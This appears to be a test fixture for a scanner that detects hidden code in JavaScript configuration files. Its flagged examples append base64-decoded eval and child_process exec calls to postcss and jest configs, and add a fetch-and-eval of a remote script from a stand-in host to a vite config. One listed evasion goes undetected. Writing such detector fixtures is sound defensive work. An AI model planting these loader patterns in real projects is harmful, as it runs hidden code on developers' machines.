import type { Examples } from "@doorward/core";

/** Configurations that run hidden code, and configurations that state settings. */
export const examples: Examples = {
  hits: [
    {
      name: "a style configuration that decodes and runs",
      files: {
        "package.json":
          '{"name": "shop", "version": "1.0.0", "type": "module", "scripts": {"dev": "vite"}, "devDependencies": {"vite": "^5.0.0"}}\n',
        "postcss.config.mjs":
          'export default { plugins: {} };\neval(Buffer.from("Y29uc29sZS5sb2coMSk7IC8vIGEgbG9uZ2VyIHRleHQ=", "base64").toString());\n',
      },
    },
    {
      name: "a build configuration that runs an answer",
      files: {
        "package.json":
          '{"name": "shop", "version": "1.0.0", "type": "module", "scripts": {"dev": "vite"}, "devDependencies": {"vite": "^5.0.0"}}\n',
        "vite.config.js":
          'import { defineConfig } from "vite";\n\nexport default defineConfig({ plugins: [] });\nfetch("https://cdn.example/agent.js").then((answer) => answer.text()).then((text) => eval(text));\n',
      },
    },
    {
      name: "a test configuration that starts a hidden command",
      files: {
        "package.json": '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "test": "jest"\n  }\n}\n',
        "jest.config.js":
          'module.exports = {};\nrequire("child_process").exec(Buffer.from("ZWNobyBhIGxvbmdlciBjb21tYW5k", "base64").toString());\n',
      },
    },
  ],
  misses: [
    {
      name: "a configuration that names plug-ins",
      why: "It states settings.",
      files: {
        "package.json":
          '{"name": "shop", "version": "1.0.0", "type": "module", "scripts": {"dev": "vite"}, "devDependencies": {"vite": "^5.0.0"}}\n',
        "vite.config.js": 'import { defineConfig } from "vite";\n\nexport default defineConfig({ plugins: [] });\n',
      },
    },
    {
      name: "a configuration that asks git for the version",
      why: "The command can be read.",
      files: {
        "package.json":
          '{"name": "shop", "version": "1.0.0", "type": "module", "scripts": {"dev": "vite"}, "devDependencies": {"vite": "^5.0.0"}}\n',
        "vite.config.js":
          'import { execSync } from "node:child_process";\nimport { defineConfig } from "vite";\n\nconst version = execSync("git rev-parse HEAD").toString();\nexport default defineConfig({ define: { version } });\n',
      },
    },
    {
      name: "a configuration that reads a certificate",
      why: "It is read, not run.",
      files: {
        "package.json":
          '{"name": "shop", "version": "1.0.0", "type": "module", "scripts": {"dev": "vite"}, "devDependencies": {"vite": "^5.0.0"}}\n',
        "vite.config.js":
          'import { readFileSync } from "node:fs";\nimport { defineConfig } from "vite";\n\nexport default defineConfig({ server: { https: { cert: readFileSync("a.pem") } } });\n',
      },
    },
  ],
  evasions: [
    {
      name: "the configuration loads a package that does it",
      caughtBy: "nothing",
      files: {
        "package.json":
          '{"name": "shop", "version": "1.0.0", "type": "module", "scripts": {"dev": "vite"}, "devDependencies": {"vite": "^5.0.0"}}\n',
        "vite.config.js":
          'import { defineConfig } from "vite";\nimport theme from "shop-theme";\n\nexport default defineConfig({ plugins: [theme()] });\n',
      },
    },
  ],
};
